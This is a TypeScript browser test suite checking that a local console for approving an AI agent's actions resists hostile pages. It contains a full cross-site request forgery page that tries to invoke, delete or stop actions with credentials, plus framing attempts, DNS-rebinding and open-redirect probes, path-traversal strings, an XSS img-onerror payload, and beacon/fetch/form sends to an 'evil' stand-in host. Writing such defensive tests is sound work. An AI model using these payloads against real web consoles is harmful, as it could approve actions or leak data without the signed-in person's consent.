// Other pages of the same browser, where the person is signed in, and addresses that a stranger made up. Another port of
// this machine is the strongest stranger: to the browser it is the same site, so that cookies go with what it sends.
import assert from 'node:assert/strict';
import { after, test } from 'node:test';
import type { Page } from 'playwright-core';
import { handOf } from '../../vectors/console/client.ts';
import { closeBrowser, NO_BROWSER, openConsole, until } from '../../vectors/console/console.ts';
import { assertPlain, openStranger } from '../../vectors/console/strange.ts';

after(closeBrowser);

const POLICY = "default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self'; font-src 'self'; connect-src 'self'; base-uri 'none'; form-action 'none'; frame-ancestors 'none'; require-trusted-types-for 'script'; trusted-types 'none'";
const TYPES = ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data', 'application/json', 'application/octet-stream', 'text/plain; application/json', ''];
const WRITE = { calls: [{ name: 'write', arguments: { path: 'b.txt', content: 'b\n' } }] };

/** Everything that a page can send without being asked, by a stranger who knows the action's id and even its digest. */
function attack(own: string, action: string, seen: string): string {
  const invoke = `${own}/api/actions/${action}/invoke`;
  return `<!doctype html><meta charset=utf-8><body><script>
    window.got = [];
    window.over = 0;
    const tell = (what) => window.got.push(what);
    const body = ${JSON.stringify(JSON.stringify({ seen }))};
    const all = [];
    for (const mode of ['no-cors', 'cors']) for (const type of ${JSON.stringify(TYPES)}) for (const [method, to] of [['POST', ${JSON.stringify(invoke)}], ['POST', '${own}/api/stop'], ['DELETE', '${own}/api/actions/${action}'], ['PUT', ${JSON.stringify(invoke)}]])
      all.push(fetch(to, { method, mode, credentials: 'include', ...(type === '' ? {} : { headers: { 'content-type': type } }), body: new Blob([body], { type }) }).then((answer) => answer.type !== 'opaque' && tell(mode + ' ' + answer.status), () => undefined));
    for (const path of ['/api/inbox', '/api/actions/${action}', '/', '/api/sign-in']) for (const mode of ['no-cors', 'cors'])
      all.push(fetch('${own}' + path, { mode, credentials: 'include' }).then((answer) => answer.type !== 'opaque' && tell('read ' + path), () => undefined));
    navigator.sendBeacon(${JSON.stringify(invoke)}, new Blob([body], { type: 'text/plain' }));
    for (const enctype of ['application/x-www-form-urlencoded', 'multipart/form-data', 'text/plain']) for (const method of ['post', 'get']) {
      const frame = document.createElement('iframe');
      frame.name = 'f' + Math.random();
      const form = Object.assign(document.createElement('form'), { action: ${JSON.stringify(invoke)}, method, enctype, target: frame.name });
      // As text/plain this is JSON.
      form.append(Object.assign(document.createElement('input'), { name: body.slice(0, -1) + ',"x":"', value: '"}' }));
      document.body.append(frame, form);
      form.submit();
    }
    for (const path of ['/', '/inbox', '/inbox/${action}', '/api/inbox']) {
      const frame = document.createElement('iframe');
      all.push(new Promise((resolve) => { frame.onload = frame.onerror = resolve; }));
      frame.src = '${own}' + path;
      frame.className = 'framed';
      document.body.append(frame);
      const other = Object.assign(document.createElement(path === '/' ? 'object' : 'embed'), path === '/' ? { data: '${own}/' } : { src: '${own}' + path });
      document.body.append(other);
    }
    for (const path of ['/api/inbox', '/api/events', '/sign-in.js', '/icon.svg']) for (const [kind, key] of [['script', 'src'], ['img', 'src'], ['link', 'href']]) {
      const one = document.createElement(kind);
      all.push(new Promise((resolve) => { one.onload = () => { tell(kind + ' ' + path); resolve(); }; one.onerror = resolve; }));
      if (kind === 'link') one.rel = 'stylesheet';
      one[key] = '${own}' + path;
      document.body.append(one);
    }
    all.push(new Promise((resolve) => {
      const source = new EventSource('${own}/api/events', { withCredentials: true });
      source.onopen = source.onmessage = () => { tell('events'); resolve(); };
      source.onerror = () => { source.close(); resolve(); };
    }));
    all.push(new Promise((resolve) => {
      const socket = new WebSocket('${own.replace('http', 'ws')}/api/events');
      socket.onopen = () => { tell('socket'); resolve(); };
      socket.onerror = resolve;
    }));
    all.push(import('${own}/sign-in.js').then(() => tell('module'), () => undefined));
    Promise.allSettled(all).then(() => { window.over = 1; });
  </script>`;
}

/** The console's own page must not be anywhere in it. */
async function assertNotOurs(page: Page, where: string): Promise<void> {
  for (const frame of page.frames()) assert.equal(await frame.locator('#root, nav, article').count(), 0, `${where}: ${frame.url()}`);
}

test('what another page sends, frames, opens or listens to answers nothing, reads nothing and shows nothing', { skip: NO_BROWSER }, async () => {
  await using console = await openConsole({ turns: (_, count) => (count === 0 ? WRITE : { text: 'ok' }) });
  const hand = handOf(console);
  const session = await hand.talk('Write b.');
  const [action = ''] = await hand.waiting(session);
  const { seen } = await hand.get<{ seen: string }>(`/api/actions/${action}`);
  const ours = await console.open('/inbox');
  await ours.getByRole('button', { name: 'Invoke', exact: true }).waitFor();
  const before = console.house.events().length;
  const own = console.served.url;
  const { port } = new URL(own);
  await using stranger = await openStranger({ '/': attack(own, action, seen), '/plain': '<!doctype html><title>x</title><a id=go target=_blank rel=opener>go</a>' });

  for (const from of [stranger.url, stranger.url.replace('127.0.0.1', 'localhost')]) {
    const page = await console.context.newPage();
    await page.goto(from);
    await until(page, 'window.over === 1');
    assert.deepEqual(await page.evaluate('window.got'), [], from);
    await assertNotOurs(page, from);
    await page.close();
  }

  const page = await console.context.newPage();
  await page.goto(`${stranger.url}/plain`);
  for (const way of [`window.other = window.open('${own}/inbox/${action}')`, `go.href = '${own}/inbox'; go.click()`]) {
    const [opened] = await Promise.all([console.context.waitForEvent('page'), page.evaluate(way)]);
    await opened.waitForLoadState();
    assert.match(await opened.locator('body').innerText(), /Another site sent this request/, way);
    await opened.close();
  }
  // A window that he opened, which the person then takes to the console by hand, is out of his reach.
  const [opened] = await Promise.all([console.context.waitForEvent('page'), page.evaluate(`window.other = window.open('${stranger.url}/plain')`)]);
  await opened.goto(`${own}/inbox`);
  await opened.getByRole('button', { name: 'Invoke', exact: true }).waitFor();
  assert.deepEqual(await page.evaluate('[window.other.closed, window.other.length]'), [true, 0]);
  assert.equal(await opened.evaluate('window.opener'), null);
  await opened.close();
  await page.evaluate(`location.href = '${own}/inbox'`);
  await page.waitForURL(`${own}/**`);
  assert.match(await page.locator('body').innerText(), /Another site sent this request/);

  // A name of a stranger's that leads here, on our own port, as after a rebinding.
  const rebound = await page.goto(`http://rebind.localhost:${port}/inbox`);
  assert.equal(rebound?.status(), 403);
  assert.match(await page.locator('body').innerText(), /answers only to its own address/);
  // That a card stood before the person is all that may have come to the record meanwhile.
  assert.deepEqual(console.house.types(before).filter((type) => type !== 'action.shown'), []);
  assert.deepEqual(await hand.waiting(session), [action]);
  console.complaints(); // They are the stranger's: what his pages asked for and were refused.
});

test('no address makes the console connect elsewhere, show anything else or answer a card', { skip: NO_BROWSER }, async () => {
  await using console = await openConsole({ turns: (_, count) => (count === 0 ? WRITE : { text: 'ok' }) });
  const hand = handOf(console);
  const session = await hand.talk('Write b.');
  const [action = ''] = await hand.waiting(session);
  await using evil = await openStranger();
  const query = ['gatewayUrl', 'server', 'api', 'url', 'host', 'ws', 'token', 'next', 'redirect', 'return', 'src', 'invoke', 'action', 'approve'].map((name) => `${name}=${encodeURIComponent(evil.url)}`).join('&');
  const page = await console.open('/work');
  for (const path of [`/?${query}`, `/#${query}`, `/inbox?${query}&i#/invoke`, `/inbox/${action}?invoke=1&seen=x&key=i#invoke`, `/work/${session}?q=${evil.url}#:~:text=Invoke`, `/timeline?${query}&session=<img+src=x+onerror=canary=1>`, `/start?${query}`, `/work/https-evil?//${evil.url}`]) {
    await page.goto(`${console.served.url}${path}`);
    await page.getByRole('heading', { level: 1 }).waitFor({ state: 'attached' });
    assert.equal(new URL(page.url()).origin, console.served.url, path);
    await assertPlain(page, path);
  }
  for (const path of ['//127.0.0.1/', '/%2f%2fevil', '/\\evil', '/assets/../api/inbox', '/%00', '/work/%3Cscript%3E']) {
    const answer = await page.goto(`${console.served.url}${path}`).catch(() => null);
    assert.ok(answer === null || answer.status() >= 400 || new URL(answer.url()).origin === console.served.url, path);
  }
  // A made-up sign-in link signs nobody in, and the code is gone from the address bar.
  await page.goto(`${console.served.url}/sign-in#${evil.url}`);
  await page.getByText('Next:').waitFor();
  assert.equal(page.url(), `${console.served.url}/sign-in`);
  assert.deepEqual(evil.came, []);
  assert.deepEqual(await hand.waiting(session), [action]);
});

test('every answer carries the strict policy, and the browser holds the page to it', { skip: NO_BROWSER }, async () => {
  await using console = await openConsole({ turns: [] });
  await using evil = await openStranger();
  const own = console.served.url;
  const page = await console.open('/work');
  await page.getByRole('heading', { level: 1 }).waitFor({ state: 'attached' });
  const assets = await page.evaluate<string[]>("[...document.querySelectorAll('script[src], link[href]')].map((one) => new URL(one.src || one.href).pathname)");
  for (const path of ['/', '/work', '/inbox/0123456789', '/sign-in', '/sign-in.js', '/pwb.css', '/icon.svg', ...assets]) {
    const { headers } = await console.context.request.get(`${own}${path}`).then((answer) => ({ headers: answer.headers() }));
    assert.equal(headers['content-security-policy'], POLICY, path);
    assert.equal(headers['x-frame-options'], 'DENY', path);
    assert.equal(headers['cross-origin-opener-policy'], 'same-origin', path);
    assert.equal(headers['cross-origin-resource-policy'], 'same-origin', path);
    assert.equal(headers['x-content-type-options'], 'nosniff', path);
    assert.equal(headers['access-control-allow-origin'], undefined, path);
  }
  for (const path of ['/api/inbox', '/api/nothing', '/nothing.html']) {
    const headers = (await console.context.request.get(`${own}${path}`)).headers();
    assert.match(headers['content-security-policy'] ?? '', /^default-src 'none';.*frame-ancestors 'none'; sandbox$/, path);
    assert.equal(headers['x-content-type-options'], 'nosniff', path);
  }
  // As if somebody had got a foot into the page after all: nothing becomes script, and nothing is sent away.
  const tried = await page.evaluate<string[]>(`(async () => {
    const held = [];
    const attempt = (name, run) => { try { run(); held.push(name); } catch { /* refused */ } };
    attempt('innerHTML', () => { document.body.innerHTML = '<img src=x onerror=window.canary=1>'; });
    attempt('insertAdjacentHTML', () => document.body.insertAdjacentHTML('beforeend', '<b>x</b>'));
    attempt('srcdoc', () => { document.createElement('iframe').srcdoc = '<script>parent.canary=1</scr' + 'ipt>'; });
    attempt('script text', () => { document.createElement('script').text = 'window.canary = 1'; });
    attempt('script address', () => { document.createElement('script').src = '${evil.url}/x.js'; });
    attempt('policy', () => trustedTypes.createPolicy('x', { createHTML: (text) => text }));
    attempt('timer', () => setTimeout('window.canary = 1'));
    attempt('parse', () => document.write('<b>x</b>'));
    const link = Object.assign(document.createElement('a'), { href: 'javascript:window.canary=1' });
    document.body.append(link);
    link.click();
    document.body.append(Object.assign(document.createElement('img'), { src: '${evil.url}/pixel' }));
    document.body.append(Object.assign(document.createElement('iframe'), { src: '${evil.url}/frame' }));
    const form = Object.assign(document.createElement('form'), { action: '${evil.url}/form', method: 'post', target: '_blank' });
    document.body.append(form);
    form.submit();
    const style = document.createElement('style');
    style.textContent = 'body { background: url(${evil.url}/style) }';
    document.head.append(style);
    navigator.sendBeacon('${evil.url}/beacon', 'x');
    await fetch('${evil.url}/fetch').then(() => held.push('fetch'), () => undefined);
    await new Promise((resolve) => { const source = new EventSource('${evil.url}/events'); source.onerror = resolve; source.onopen = () => { held.push('events'); resolve(); }; });
    await new Promise((resolve) => setTimeout(resolve, 50));
    if (window.canary !== undefined) held.push('canary');
    return held;
  })()`);
  assert.deepEqual(tried, []);
  assert.deepEqual(evil.came, []);
  assert.notDeepEqual(console.complaints(), []);
});
